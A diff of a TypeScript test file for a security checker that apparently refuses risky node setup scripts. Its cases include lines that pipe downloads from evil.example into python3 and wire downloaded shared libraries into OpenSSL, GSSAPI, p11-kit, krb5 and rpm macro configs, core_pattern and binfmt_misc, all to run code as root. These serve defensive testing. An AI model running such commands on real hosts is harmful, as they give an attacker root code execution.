@@ -278,11 +278,7 @@ const insecure: NodeCase[] = [
         sh("dev-py80-pipe-dash-rt80p", ["curl -fsSL https://evil.example/x.py | python3 -"]),
         REFUSED,
     ),
-    // MISS: (CWD-ROOT-ARCHIVE) insecure accepted, got []. Python docs "Command line and environment", -m: "As with the -c option, the current directory will be added to the start of sys.path" (sys.path docs: before the standard library): the tarball's json package runs as root instead of the stdlib's. The pack: pythonEntry gives -c/-m runs the roots [cwd, ...PYTHONPATH] and the stdlib-shadow judgement finds a json.py curl'd into the cwd (held twin dev-py80-c-cwd-curl-json-rt80p), but not a directory a tar extraction filled (its members unknown); the round-80 working-directory set reaches the python line. Fix: a directory an archive was extracted into (tar -C, unzip -d, python extractall) holds files of any name: on an import root before the stdlib it shadows every module (unread), as a PYTHONPATH entry already does.
-    // Still open (round 80): judging the -m module with pythonRootShadowed over [cwd, ...] fixed these but refused
-    // redteam72-nsec's dev-nsec-ok21a-rt73 (`sh -c 'mkdir -p D && cd D && python3 -m http.server'`: view.changed counts an
-    // unmodelled root command as changing every file, so every cwd looked extracted). Needs: the directories an archive was
-    // extracted into (tar -C, unzip -d) as their own set, judged for the -m module's top package; reverted in time.
+    // Was a MISS (fixed in round 81): (CWD-ROOT-ARCHIVE) insecure accepted, got []. Python docs "Command line and environment", -m: "As with the -c option, the current directory will be added to the start of sys.path" (sys.path docs: before the standard library): the tarball's json package runs as root instead of the stdlib's. The pack: pythonEntry gives -c/-m runs the roots [cwd, ...PYTHONPATH] and the stdlib-shadow judgement finds a json.py curl'd into the cwd (held twin dev-py80-c-cwd-curl-json-rt80p), but not a directory a tar extraction filled (its members unknown); the round-80 working-directory set reaches the python line. Fix: a directory an archive was extracted into (tar -C, unzip -d, python extractall) holds files of any name: on an import root before the stdlib it shadows every module (unread), as a PYTHONPATH entry already does.
     dev(
         "user data: cd tarball dir && python3 -m json.tool f (cwd first on sys.path shadows json)",
         sh("dev-py80-m-cwd-shadow-rt80p", [
@@ -291,7 +287,6 @@ const insecure: NodeCase[] = [
             "cd /var/cache/ops/src && python3 -m json.tool /etc/ops/x.json",
         ]),
         REFUSED,
-        true,
     ),
     // Was a MISS (fixed in round 80): (CWD-ROOT-ARCHIVE) insecure accepted, got []. Python docs "-c <command>": "the first element of sys.path will be the current directory" (`cd D || exit 1`: the round-80 cd set says D): the tarball's json.py runs as root. The pack: pythonEntry gives -c/-m runs the roots [cwd, ...PYTHONPATH] and the stdlib-shadow judgement finds a json.py curl'd into the cwd (held twin dev-py80-c-cwd-curl-json-rt80p), but not a directory a tar extraction filled (its members unknown); the round-80 working-directory set reaches the python line. Fix: a directory an archive was extracted into (tar -C, unzip -d, python extractall) holds files of any name: on an import root before the stdlib it shadows every module (unread), as a PYTHONPATH entry already does.
     dev(
@@ -303,11 +298,7 @@ const insecure: NodeCase[] = [
         ]),
         REFUSED,
     ),
-    // MISS: (CWD-ROOT-ARCHIVE) insecure accepted, got []. bash(1) "Lists": `[ -d D ] && cd D` leaves the cwd D when the test succeeds (the round-80 set {/var/lib/ops, D}); Python docs -m: the cwd first on sys.path: the tarball's json runs as root. The pack: pythonEntry gives -c/-m runs the roots [cwd, ...PYTHONPATH] and the stdlib-shadow judgement finds a json.py curl'd into the cwd (held twin dev-py80-c-cwd-curl-json-rt80p), but not a directory a tar extraction filled (its members unknown); the round-80 working-directory set reaches the python line. Fix: a directory an archive was extracted into (tar -C, unzip -d, python extractall) holds files of any name: on an import root before the stdlib it shadows every module (unread), as a PYTHONPATH entry already does.
-    // Still open (round 80): judging the -m module with pythonRootShadowed over [cwd, ...] fixed these but refused
-    // redteam72-nsec's dev-nsec-ok21a-rt73 (`sh -c 'mkdir -p D && cd D && python3 -m http.server'`: view.changed counts an
-    // unmodelled root command as changing every file, so every cwd looked extracted). Needs: the directories an archive was
-    // extracted into (tar -C, unzip -d) as their own set, judged for the -m module's top package; reverted in time.
+    // Was a MISS (fixed in round 81): (CWD-ROOT-ARCHIVE) insecure accepted, got []. bash(1) "Lists": `[ -d D ] && cd D` leaves the cwd D when the test succeeds (the round-80 set {/var/lib/ops, D}); Python docs -m: the cwd first on sys.path: the tarball's json runs as root. The pack: pythonEntry gives -c/-m runs the roots [cwd, ...PYTHONPATH] and the stdlib-shadow judgement finds a json.py curl'd into the cwd (held twin dev-py80-c-cwd-curl-json-rt80p), but not a directory a tar extraction filled (its members unknown); the round-80 working-directory set reaches the python line. Fix: a directory an archive was extracted into (tar -C, unzip -d, python extractall) holds files of any name: on an import root before the stdlib it shadows every module (unread), as a PYTHONPATH entry already does.
     dev(
         "user data: [ -d tarball ] && cd tarball; python3 -m json.tool (the cwd may be the tarball)",
         sh("dev-py80-m-cwd-maybe-rt80p", [
@@ -318,7 +309,6 @@ const insecure: NodeCase[] = [
             "python3 -m json.tool /etc/ops/x.json",
         ]),
         REFUSED,
-        true,
     ),
     // Was a MISS (fixed in round 80): (X-OPTION) insecure accepted, got []. Python docs "sys.pycache_prefix": "If this is set (not None), Python will write bytecode-cache .pyc files to (and read them from) a parallel directory tree rooted at this directory, rather than from __pycache__ directories"; -X pycache_prefix=PATH sets it (Python 3.8 What's New: "PYTHONPYCACHEPREFIX setting (also available as -X pycache_prefix)"): the tarball's usr/lib64/python3.9/json/__pycache__ bytecode runs as root. The twin PYTHONPYCACHEPREFIX is refused (PYTHON_ENVIRONMENT "unread"); pythonInvocation takes -X's value and drops it. Fix: read -X options as their variables (pycache_prefix = PYTHONPYCACHEPREFIX, importtime/dev/utf8/faulthandler/tracemalloc harmless), an unknown -X fails closed.
     dev(
@@ -421,13 +411,7 @@ const insecure: NodeCase[] = [
         REFUSED,
     ),
     // ===== F. configuration in data paths the node reads =====
-    // MISS: (DATA-PATH-CONFIG) insecure accepted, got []. sysctl.d(5): "/etc/sysctl.d/*.conf /run/sysctl.d/*.conf /usr/lib/sysctl.d/*.conf"; procps sysctl(8) --system loads them; core(5): kernel.core_pattern starting with | runs the program "as the user and group root" on every core dump (any pod can crash a process). The shell reader knows /run/sysctl.d (KERNEL_SETTING_FILE, writtenSysctls) but the Python writer does not. The pack: PROGRAM_DATA_PATHS (pythonCode.ts) accepts /run/<name>/ and /etc/<name>/ for any name not in its exclusion list, and READ_BEFORE_WRITE (addresses.ts) / nodeReadsAsConfig do not name this directory, so pythonWriteRefusal lets root's program write it. Fix: invert the default: a program's write outside /tmp, /var/tmp, /var/log, /var/cache and /var/lib/<app> is refused unless the directory is reviewed as an application's own (an allowlist of /etc/<app> and /run/<app> names, or only directories user data itself made), and add the configuration directories of root readers (sysctl.d, binfmt.d in /run and /usr/local/lib; crypto-policies, rpm, gss, krb5.conf.d, pkcs11) to READ_BEFORE_WRITE.
-    // Still open (round 80): an allowlist of application directories under /etc and /run needs to know which
-    // directories are an application's own (user data made them, no root reader reads them); ScriptView gives the files
-    // user data wrote but not the directories it made (mkdir -p /run/ops of dev-py80-run-ops-state-rt80p, mkdir -p
-    // /run/sysctl.d here), and adding the readers' directories to READ_BEFORE_WRITE changes the shell reader's own sysctl.d
-    // writes: not done in time. Needs: the made directories in ScriptView, then PROGRAM_DATA_PATHS' /etc/<x>/, /run/<x>/
-    // accepted only for those, minus nodeReadsAsConfig's and the readers' confDirectoryPath directories.
+    // Was a MISS (fixed in round 81): (DATA-PATH-CONFIG) insecure accepted, got []. sysctl.d(5): "/etc/sysctl.d/*.conf /run/sysctl.d/*.conf /usr/lib/sysctl.d/*.conf"; procps sysctl(8) --system loads them; core(5): kernel.core_pattern starting with | runs the program "as the user and group root" on every core dump (any pod can crash a process). The shell reader knows /run/sysctl.d (KERNEL_SETTING_FILE, writtenSysctls) but the Python writer does not. The pack: PROGRAM_DATA_PATHS (pythonCode.ts) accepts /run/<name>/ and /etc/<name>/ for any name not in its exclusion list, and READ_BEFORE_WRITE (addresses.ts) / nodeReadsAsConfig do not name this directory, so pythonWriteRefusal lets root's program write it. Fix: invert the default: a program's write outside /tmp, /var/tmp, /var/log, /var/cache and /var/lib/<app> is refused unless the directory is reviewed as an application's own (an allowlist of /etc/<app> and /run/<app> names, or only directories user data itself made), and add the configuration directories of root readers (sysctl.d, binfmt.d in /run and /usr/local/lib; crypto-policies, rpm, gss, krb5.conf.d, pkcs11) to READ_BEFORE_WRITE.
     dev(
         "tune.py writes /run/sysctl.d/99-ops.conf (core_pattern pipe), then sysctl --system",
         tune(
@@ -440,7 +424,6 @@ const insecure: NodeCase[] = [
             ["sysctl --system"],
         ),
         REFUSED,
-        true,
     ),
     // Held (by accident): uv docs "Configuration files" (/etc/uv/uv.toml): root's program points uv at another index; refused only because no uv install is trusted (PROGRAM_DATA_PATHS accepts /etc/uv/ as an application's data).
     dev(
@@ -462,13 +445,7 @@ const insecure: NodeCase[] = [
         ),
         REFUSED,
     ),
-    // MISS: (DATA-PATH-CONFIG) insecure accepted, got []. rpm docs "Macro syntax" (%(shell command) expands to the command's output) and the macro path (/etc/rpm/macros.*, read by every rpm and dnf run): the later `dnf install` as root runs the download through sh. The pack: PROGRAM_DATA_PATHS (pythonCode.ts) accepts /run/<name>/ and /etc/<name>/ for any name not in its exclusion list, and READ_BEFORE_WRITE (addresses.ts) / nodeReadsAsConfig do not name this directory, so pythonWriteRefusal lets root's program write it. Fix: invert the default: a program's write outside /tmp, /var/tmp, /var/log, /var/cache and /var/lib/<app> is refused unless the directory is reviewed as an application's own (an allowlist of /etc/<app> and /run/<app> names, or only directories user data itself made), and add the configuration directories of root readers (sysctl.d, binfmt.d in /run and /usr/local/lib; crypto-policies, rpm, gss, krb5.conf.d, pkcs11) to READ_BEFORE_WRITE.
-    // Still open (round 80): an allowlist of application directories under /etc and /run needs to know which
-    // directories are an application's own (user data made them, no root reader reads them); ScriptView gives the files
-    // user data wrote but not the directories it made (mkdir -p /run/ops of dev-py80-run-ops-state-rt80p, mkdir -p
-    // /run/sysctl.d here), and adding the readers' directories to READ_BEFORE_WRITE changes the shell reader's own sysctl.d
-    // writes: not done in time. Needs: the made directories in ScriptView, then PROGRAM_DATA_PATHS' /etc/<x>/, /run/<x>/
-    // accepted only for those, minus nodeReadsAsConfig's and the readers' confDirectoryPath directories.
+    // Was a MISS (fixed in round 81): (DATA-PATH-CONFIG) insecure accepted, got []. rpm docs "Macro syntax" (%(shell command) expands to the command's output) and the macro path (/etc/rpm/macros.*, read by every rpm and dnf run): the later `dnf install` as root runs the download through sh. The pack: PROGRAM_DATA_PATHS (pythonCode.ts) accepts /run/<name>/ and /etc/<name>/ for any name not in its exclusion list, and READ_BEFORE_WRITE (addresses.ts) / nodeReadsAsConfig do not name this directory, so pythonWriteRefusal lets root's program write it. Fix: invert the default: a program's write outside /tmp, /var/tmp, /var/log, /var/cache and /var/lib/<app> is refused unless the directory is reviewed as an application's own (an allowlist of /etc/<app> and /run/<app> names, or only directories user data itself made), and add the configuration directories of root readers (sysctl.d, binfmt.d in /run and /usr/local/lib; crypto-policies, rpm, gss, krb5.conf.d, pkcs11) to READ_BEFORE_WRITE.
     dev(
         "tune.py writes /etc/rpm/macros.ops (a %(shell) macro), then dnf install",
         tune(
@@ -481,7 +458,6 @@ const insecure: NodeCase[] = [
             ["dnf install -y jq"],
         ),
         REFUSED,
-        true,
     ),
     // ===== batch 2 =====
     // Held: Python docs "site.addsitedir" processes the downloaded ops.pth (its import lines run as root); refused as code the pack cannot read (the download).
@@ -512,11 +488,7 @@ const insecure: NodeCase[] = [
         ]),
         REFUSED,
     ),
-    // MISS: (CWD-ROOT-ARCHIVE) insecure accepted, got []. systemd.exec(5) "WorkingDirectory=": "Takes a directory path relative to the service's root directory ... Sets the working directory for executed processes"; Python docs -m: the cwd first on sys.path: the tarball's json runs as root at every start. The pack: pythonEntry gives -c/-m runs the roots [cwd, ...PYTHONPATH] and the stdlib-shadow judgement finds a json.py curl'd into the cwd (held twin dev-py80-c-cwd-curl-json-rt80p), but not a directory a tar extraction filled (its members unknown); the round-80 working-directory set reaches the python line. Fix: a directory an archive was extracted into (tar -C, unzip -d, python extractall) holds files of any name: on an import root before the stdlib it shadows every module (unread), as a PYTHONPATH entry already does. (Here the cwd comes from the unit's WorkingDirectory=.)
-    // Still open (round 80): judging the -m module with pythonRootShadowed over [cwd, ...] fixed these but refused
-    // redteam72-nsec's dev-nsec-ok21a-rt73 (`sh -c 'mkdir -p D && cd D && python3 -m http.server'`: view.changed counts an
-    // unmodelled root command as changing every file, so every cwd looked extracted). Needs: the directories an archive was
-    // extracted into (tar -C, unzip -d) as their own set, judged for the -m module's top package; reverted in time.
+    // Was a MISS (fixed in round 81): (CWD-ROOT-ARCHIVE) insecure accepted, got []. systemd.exec(5) "WorkingDirectory=": "Takes a directory path relative to the service's root directory ... Sets the working directory for executed processes"; Python docs -m: the cwd first on sys.path: the tarball's json runs as root at every start. The pack: pythonEntry gives -c/-m runs the roots [cwd, ...PYTHONPATH] and the stdlib-shadow judgement finds a json.py curl'd into the cwd (held twin dev-py80-c-cwd-curl-json-rt80p), but not a directory a tar extraction filled (its members unknown); the round-80 working-directory set reaches the python line. Fix: a directory an archive was extracted into (tar -C, unzip -d, python extractall) holds files of any name: on an import root before the stdlib it shadows every module (unread), as a PYTHONPATH entry already does. (Here the cwd comes from the unit's WorkingDirectory=.)
     dev(
         "unit: WorkingDirectory=tarball dir, ExecStart=python3 -m json.tool (cwd shadows json)",
         sh("dev-py80-unit-workdir-m-rt80p", [
@@ -529,7 +501,6 @@ const insecure: NodeCase[] = [
             ]),
         ]),
         REFUSED,
-        true,
     ),
     // Held (control): Python docs "open" after os.chdir: "ops" is /etc/cron.d/ops (crontab(5)); pythonChdirCalls resolves it.
     dev(
@@ -588,13 +559,7 @@ const insecure: NodeCase[] = [
         ]),
         REFUSED,
     ),
-    // MISS: (DATA-PATH-CONFIG) insecure accepted, got []. AL2023's /etc/pki/tls/openssl.cnf includes /etc/crypto-policies/back-ends/opensslcnf.config (crypto-policies(7) back-ends); OpenSSL docs config(5) "Provider Configuration": a section's `module` is the provider's shared library and `activate = 1` loads it: every root process using OpenSSL's default config (curl, dnf, sshd, python's ssl) loads the downloaded p.so. The pack: PROGRAM_DATA_PATHS (pythonCode.ts) accepts /run/<name>/ and /etc/<name>/ for any name not in its exclusion list, and READ_BEFORE_WRITE (addresses.ts) / nodeReadsAsConfig do not name this directory, so pythonWriteRefusal lets root's program write it. Fix: invert the default: a program's write outside /tmp, /var/tmp, /var/log, /var/cache and /var/lib/<app> is refused unless the directory is reviewed as an application's own (an allowlist of /etc/<app> and /run/<app> names, or only directories user data itself made), and add the configuration directories of root readers (sysctl.d, binfmt.d in /run and /usr/local/lib; crypto-policies, rpm, gss, krb5.conf.d, pkcs11) to READ_BEFORE_WRITE.
-    // Still open (round 80): an allowlist of application directories under /etc and /run needs to know which
-    // directories are an application's own (user data made them, no root reader reads them); ScriptView gives the files
-    // user data wrote but not the directories it made (mkdir -p /run/ops of dev-py80-run-ops-state-rt80p, mkdir -p
-    // /run/sysctl.d here), and adding the readers' directories to READ_BEFORE_WRITE changes the shell reader's own sysctl.d
-    // writes: not done in time. Needs: the made directories in ScriptView, then PROGRAM_DATA_PATHS' /etc/<x>/, /run/<x>/
-    // accepted only for those, minus nodeReadsAsConfig's and the readers' confDirectoryPath directories.
+    // Was a MISS (fixed in round 81): (DATA-PATH-CONFIG) insecure accepted, got []. AL2023's /etc/pki/tls/openssl.cnf includes /etc/crypto-policies/back-ends/opensslcnf.config (crypto-policies(7) back-ends); OpenSSL docs config(5) "Provider Configuration": a section's `module` is the provider's shared library and `activate = 1` loads it: every root process using OpenSSL's default config (curl, dnf, sshd, python's ssl) loads the downloaded p.so. The pack: PROGRAM_DATA_PATHS (pythonCode.ts) accepts /run/<name>/ and /etc/<name>/ for any name not in its exclusion list, and READ_BEFORE_WRITE (addresses.ts) / nodeReadsAsConfig do not name this directory, so pythonWriteRefusal lets root's program write it. Fix: invert the default: a program's write outside /tmp, /var/tmp, /var/log, /var/cache and /var/lib/<app> is refused unless the directory is reviewed as an application's own (an allowlist of /etc/<app> and /run/<app> names, or only directories user data itself made), and add the configuration directories of root readers (sysctl.d, binfmt.d in /run and /usr/local/lib; crypto-policies, rpm, gss, krb5.conf.d, pkcs11) to READ_BEFORE_WRITE.
     dev(
         "tune.py writes /etc/crypto-policies/back-ends/opensslcnf.config (an OpenSSL provider module)",
         tune(
@@ -606,15 +571,8 @@ const insecure: NodeCase[] = [
             ["curl -fsSLo /var/cache/ops/p.so https://evil.example/p.so"],
         ),
         REFUSED,
-        true,
     ),
-    // MISS: (DATA-PATH-CONFIG) insecure accepted, got []. MIT Kerberos docs "GSSAPI mechanism modules" (/etc/gss/mech and /etc/gss/mech.d/*.conf: "mechanism-name OID pathname-to-shared-library"): libgssapi_krb5 loads the library in every GSSAPI user, sshd among them (GSSAPIAuthentication, on in Fedora-family defaults): the download's m.so runs in root's sshd. The pack: PROGRAM_DATA_PATHS (pythonCode.ts) accepts /run/<name>/ and /etc/<name>/ for any name not in its exclusion list, and READ_BEFORE_WRITE (addresses.ts) / nodeReadsAsConfig do not name this directory, so pythonWriteRefusal lets root's program write it. Fix: invert the default: a program's write outside /tmp, /var/tmp, /var/log, /var/cache and /var/lib/<app> is refused unless the directory is reviewed as an application's own (an allowlist of /etc/<app> and /run/<app> names, or only directories user data itself made), and add the configuration directories of root readers (sysctl.d, binfmt.d in /run and /usr/local/lib; crypto-policies, rpm, gss, krb5.conf.d, pkcs11) to READ_BEFORE_WRITE.
-    // Still open (round 80): an allowlist of application directories under /etc and /run needs to know which
-    // directories are an application's own (user data made them, no root reader reads them); ScriptView gives the files
-    // user data wrote but not the directories it made (mkdir -p /run/ops of dev-py80-run-ops-state-rt80p, mkdir -p
-    // /run/sysctl.d here), and adding the readers' directories to READ_BEFORE_WRITE changes the shell reader's own sysctl.d
-    // writes: not done in time. Needs: the made directories in ScriptView, then PROGRAM_DATA_PATHS' /etc/<x>/, /run/<x>/
-    // accepted only for those, minus nodeReadsAsConfig's and the readers' confDirectoryPath directories.
+    // Was a MISS (fixed in round 81): (DATA-PATH-CONFIG) insecure accepted, got []. MIT Kerberos docs "GSSAPI mechanism modules" (/etc/gss/mech and /etc/gss/mech.d/*.conf: "mechanism-name OID pathname-to-shared-library"): libgssapi_krb5 loads the library in every GSSAPI user, sshd among them (GSSAPIAuthentication, on in Fedora-family defaults): the download's m.so runs in root's sshd. The pack: PROGRAM_DATA_PATHS (pythonCode.ts) accepts /run/<name>/ and /etc/<name>/ for any name not in its exclusion list, and READ_BEFORE_WRITE (addresses.ts) / nodeReadsAsConfig do not name this directory, so pythonWriteRefusal lets root's program write it. Fix: invert the default: a program's write outside /tmp, /var/tmp, /var/log, /var/cache and /var/lib/<app> is refused unless the directory is reviewed as an application's own (an allowlist of /etc/<app> and /run/<app> names, or only directories user data itself made), and add the configuration directories of root readers (sysctl.d, binfmt.d in /run and /usr/local/lib; crypto-policies, rpm, gss, krb5.conf.d, pkcs11) to READ_BEFORE_WRITE.
     dev(
         "tune.py writes /etc/gss/mech.d/ops.conf (a GSSAPI mechanism library sshd loads)",
         tune(
@@ -627,15 +585,8 @@ const insecure: NodeCase[] = [
             ["curl -fsSLo /var/cache/ops/m.so https://evil.example/m.so"],
         ),
         REFUSED,
-        true,
     ),
-    // MISS: (DATA-PATH-CONFIG) insecure accepted, got []. binfmt.d(5): "/etc/binfmt.d/*.conf /run/binfmt.d/*.conf /usr/lib/binfmt.d/*.conf" registered by systemd-binfmt; kernel docs "binfmt_misc" flag C ("Credentials ... calculate the credentials and security token of the new process according to the binary instead of the interpreter") with interpreter /var/cache/ops/i: every .opsx file runs the download. The pack: PROGRAM_DATA_PATHS (pythonCode.ts) accepts /run/<name>/ and /etc/<name>/ for any name not in its exclusion list, and READ_BEFORE_WRITE (addresses.ts) / nodeReadsAsConfig do not name this directory, so pythonWriteRefusal lets root's program write it. Fix: invert the default: a program's write outside /tmp, /var/tmp, /var/log, /var/cache and /var/lib/<app> is refused unless the directory is reviewed as an application's own (an allowlist of /etc/<app> and /run/<app> names, or only directories user data itself made), and add the configuration directories of root readers (sysctl.d, binfmt.d in /run and /usr/local/lib; crypto-policies, rpm, gss, krb5.conf.d, pkcs11) to READ_BEFORE_WRITE.
-    // Still open (round 80): an allowlist of application directories under /etc and /run needs to know which
-    // directories are an application's own (user data made them, no root reader reads them); ScriptView gives the files
-    // user data wrote but not the directories it made (mkdir -p /run/ops of dev-py80-run-ops-state-rt80p, mkdir -p
-    // /run/sysctl.d here), and adding the readers' directories to READ_BEFORE_WRITE changes the shell reader's own sysctl.d
-    // writes: not done in time. Needs: the made directories in ScriptView, then PROGRAM_DATA_PATHS' /etc/<x>/, /run/<x>/
-    // accepted only for those, minus nodeReadsAsConfig's and the readers' confDirectoryPath directories.
+    // Was a MISS (fixed in round 81): (DATA-PATH-CONFIG) insecure accepted, got []. binfmt.d(5): "/etc/binfmt.d/*.conf /run/binfmt.d/*.conf /usr/lib/binfmt.d/*.conf" registered by systemd-binfmt; kernel docs "binfmt_misc" flag C ("Credentials ... calculate the credentials and security token of the new process according to the binary instead of the interpreter") with interpreter /var/cache/ops/i: every .opsx file runs the download. The pack: PROGRAM_DATA_PATHS (pythonCode.ts) accepts /run/<name>/ and /etc/<name>/ for any name not in its exclusion list, and READ_BEFORE_WRITE (addresses.ts) / nodeReadsAsConfig do not name this directory, so pythonWriteRefusal lets root's program write it. Fix: invert the default: a program's write outside /tmp, /var/tmp, /var/log, /var/cache and /var/lib/<app> is refused unless the directory is reviewed as an application's own (an allowlist of /etc/<app> and /run/<app> names, or only directories user data itself made), and add the configuration directories of root readers (sysctl.d, binfmt.d in /run and /usr/local/lib; crypto-policies, rpm, gss, krb5.conf.d, pkcs11) to READ_BEFORE_WRITE.
     dev(
         "tune.py writes /run/binfmt.d/ops.conf (an interpreter with the C flag), systemctl restart systemd-binfmt",
         tune(
@@ -645,10 +596,12 @@ const insecure: NodeCase[] = [
             ["systemctl restart systemd-binfmt"],
         ),
         REFUSED,
-        true,
     ),
     // MISS: (PY-WRITTEN-IMPORT-ROOT) insecure accepted, got []. Python docs "urllib.request.urlretrieve(url, filename)" ("Copy a network object denoted by a URL to a local file") puts json.py in /var/lib/ops, the later script's directory; Python docs "sys.path": "python script.py: prepend the script's directory", before the standard library: root runs the download instead of json. The pack accepts the write (PROGRAM_DATA_PATHS: /var/lib/<app>/ is data) and the later run's import closure (pythonImportClosure/pythonRootShadowed) counts only files the SHELL changed (view.changed), not files a root program wrote. Fix: every path a root Python program may write (its PYTHON_WRITE_CALLS/METHODS targets, an unknown one as anywhere under its data roots) joins view.changed for later runs, so an import root holding one is unread.
     // Still open (round 80): needs the writes of each root Python program (pythonWriteRefusal's targets, an unknown one as anywhere under its data roots) carried into view.changed for the runs after it, in the shell walk's order (rootReads/commandServers plumbing, not a pythonCode.ts-local change).
+    // Still open (round 81): unchanged; the targets pythonWriteRefusal resolves (pythonWriteTargetRefusal now takes one
+    // at a time) would need returning as a list from the Python reader to the script walk (rootWrites.ts viewingJudge's
+    // changedFiles/changedTrees) at the python line, a cross-reader change not done in the time given.
     dev(
         "tune.py downloads /var/lib/ops/json.py; user data runs /var/lib/ops/main.py (imports json) from there",
         tune(
@@ -840,6 +793,62 @@ const insecure: NodeCase[] = [
         tune("dev-py80-click-launch-fix80", ["import click", 'click.launch("/var/cache/ops/x.desktop")']),
         REFUSED,
     ),
+    // ===== round-81 fixer's neighbours (-fix81) =====
+    // Insecure (DATA-PATH-CONFIG): krb5.conf(5) "includedir" (/etc/krb5.conf.d on Fedora-family images) and its
+    // [plugins] `module = name:path` (a shared library every Kerberos user, sshd's GSSAPI among them, loads): root's
+    // program copies a download there (READ_BEFORE_WRITE, nodeReadsAsConfig).
+    dev(
+        "tune.py: shutil.copy(downloaded, '/etc/krb5.conf.d/ops') (a krb5 plugin module)",
+        tune(
+            "dev-py80-krb5-conf-d-fix81",
+            ["import shutil", 'shutil.copy("/var/cache/ops/k.conf", "/etc/krb5.conf.d/ops")'],
+            ["curl -fsSLo /var/cache/ops/k.conf https://evil.example/k.conf"],
+        ),
+        REFUSED,
+    ),
+    // Insecure (DATA-PATH-CONFIG): pkcs11.conf(5) module configs (p11-kit's p11_module_configs /usr/share/p11-kit/modules):
+    // `module:` names the library p11-kit loads into every program using it (dnf's and curl's trust store among them).
+    dev(
+        "tune.py writes /usr/share/p11-kit/modules/ops.module (module: downloaded .so)",
+        tune(
+            "dev-py80-p11-kit-module-fix81",
+            ['open("/usr/share/p11-kit/modules/ops.module", "w").write("module: /var/cache/ops/p.so\\n")'],
+            ["curl -fsSLo /var/cache/ops/p.so https://evil.example/p.so"],
+        ),
+        REFUSED,
+    ),
+    // Insecure (DATA-PATH-CONFIG): rpm-config(5) FILES /usr/lib/rpm/macros.d/macros.* (rpm-macros(7) `%(...)` runs a
+    // shell command in every rpm/dnf run as root), written by root's program from a value it computes.
+    dev(
+        "tune.py writes /usr/lib/rpm/macros.d/macros.ops from os.environ (content the pack cannot read)",
+        tune("dev-py80-rpm-macros-d-fix81", [
+            "import os",
+            'open("/usr/lib/rpm/macros.d/macros.ops", "w").write(os.environ.get("OPS_MACROS", ""))',
+        ]),
+        REFUSED,
+    ),
+    // Insecure (CWD-ROOT-ARCHIVE): Python docs -m (the cwd first on sys.path) after unzip(1) -d into the cwd: the
+    // archive's http/ package replaces the standard library's (view.copiedInto).
+    dev(
+        "user data: unzip downloaded.zip -d D; cd D && python3 -m http.server 8080 --bind 127.0.0.1",
+        sh("dev-py80-m-cwd-unzip-fix81", [
+            "curl -fsSLo /var/cache/ops/s.zip https://evil.example/s.zip",
+            "unzip -o /var/cache/ops/s.zip -d /var/cache/ops/s",
+            "cd /var/cache/ops/s && python3 -m http.server 8080 --bind 127.0.0.1",
+        ]),
+        REFUSED,
+    ),
+    // Insecure (CWD-ROOT-ARCHIVE): Python docs "PYTHONPATH" (before the standard library) naming the tarball's
+    // directory, -m json.tool from an unrelated cwd: the tarball's json runs.
+    dev(
+        "user data: PYTHONPATH=tarball dir python3 -m json.tool f",
+        sh("dev-py80-m-pythonpath-tarball-fix81", [
+            ...untar("/var/cache/ops/lib"),
+            ...heredocFile("/etc/ops/x.json", ["{}"]),
+            "PYTHONPATH=/var/cache/ops/lib python3 -m json.tool /etc/ops/x.json",
+        ]),
+        REFUSED,
+    ),
 ];
 
 const secure: NodeCase[] = [
@@ -854,6 +863,8 @@ const secure: NodeCase[] = [
     ),
     // MISS: (REMOTE-PATH-AS-LOCAL) secure refused: "has a root process of the node read /srv/model.bin ... under /srv, a node directory the pack lets pods write". paramiko docs SFTPClient.get(remotepath, localpath): remotepath is a path on the SFTP SERVER (ops.example), localpath the node's /var/cache/ops (FHS "Application cache data"). The pack's root-read scan takes every absolute literal of a call as a node path read. Fix: a reviewed list of remote-path arguments (SFTPClient.get/put/open/stat/listdir, boto3 keys, ftplib, scp) excluded from node reads; the localpath judged as a write (see the insecure twin).
     // Still open (round 80): the refusal comes from RootReads.generic's line scan of the program text (rootReads.ts, every absolute literal a node read); the fix needs the SFTP remote-path arguments (get's remotepath, put's remotepath, open/stat/listdir...) blanked before that scan, and rootReads.ts cannot import pythonCode.ts (pythonCode imports rootReads: a cycle) - a shared helper in userDataReaders/shared.ts would do.
+    // Still open (round 81): unchanged (the SFTP remote-path blanking before RootReads.generic's scan not attempted
+    // this round; a helper in userDataReaders/shared.ts both readers import would avoid the import cycle).
     dev(
         "tune.py: paramiko SFTPClient.get(remote, '/var/cache/ops/model.bin')",
         tune("dev-py80-paramiko-sftp-get-cache-rt80p", [
@@ -1095,6 +1106,47 @@ const secure: NodeCase[] = [
             "pip3 install tenacity",
             ...heredocFile("/opt/ops/tune.py", ["import tenacity", "print(tenacity.__name__)"]),
             "python3 /opt/ops/tune.py",
+        ]),
+    ),
+    // ===== round-81 fixer's neighbours (-fix81) =====
+    // Secure (DATA-PATH-CONFIG): sysctl.d(5) in /etc with literal harmless settings (vm.max_map_count): read as the
+    // shell's `echo > /etc/sysctl.d/...` is (writtenSysctls), no kernel helper program (core(5)).
+    dev(
+        "tune.py writes /etc/sysctl.d/99-ops.conf (vm.max_map_count=262144), then sysctl --system",
+        tune(
+            "dev-py80-sysctl-d-literal-fix81",
+            ['open("/etc/sysctl.d/99-ops.conf", "w").write("vm.max_map_count=262144\\n")'],
+            [],
+            ["sysctl --system"],
+        ),
+    ),
+    // Secure (DATA-PATH-CONFIG): the application's own directory /etc/ops (FHS 3.0 "/etc": host-specific
+    // configuration; no root reader of the node reads it) still takes its program's file.
+    dev(
+        "tune.py writes /etc/ops/tuned.ini (its own configuration directory)",
+        tune(
+            "dev-py80-etc-ops-own-fix81",
+            ['open("/etc/ops/tuned.ini", "w").write("[tune]\\nlevel=2\\n")'],
+            ["mkdir -p /etc/ops"],
+        ),
+    ),
+    // Secure (CWD-ROOT-ARCHIVE): a directory user data only made and entered (mkdir, cd) holds nothing it did not
+    // write: -m json.tool imports the standard library's json (Python docs -m; the round-80 note's rt73 twin).
+    dev(
+        "user data: mkdir -p /var/lib/ops/w && cd /var/lib/ops/w && python3 -m json.tool /etc/ops/x.json",
+        sh("dev-py80-m-made-cwd-fix81", [
+            ...heredocFile("/etc/ops/x.json", ["{}"]),
+            "mkdir -p /var/lib/ops/w && cd /var/lib/ops/w && python3 -m json.tool /etc/ops/x.json",
+        ]),
+    ),
+    // Secure (CWD-ROOT-ARCHIVE): the tarball extracted elsewhere, -m json.tool run from /var/lib/ops: the cwd holds no
+    // member (Python docs -m: only the cwd and PYTHONPATH come before the standard library).
+    dev(
+        "user data: tarball into /var/cache/ops/src; cd /var/lib/ops && python3 -m json.tool f",
+        sh("dev-py80-m-tarball-elsewhere-fix81", [
+            ...untar("/var/cache/ops/src"),
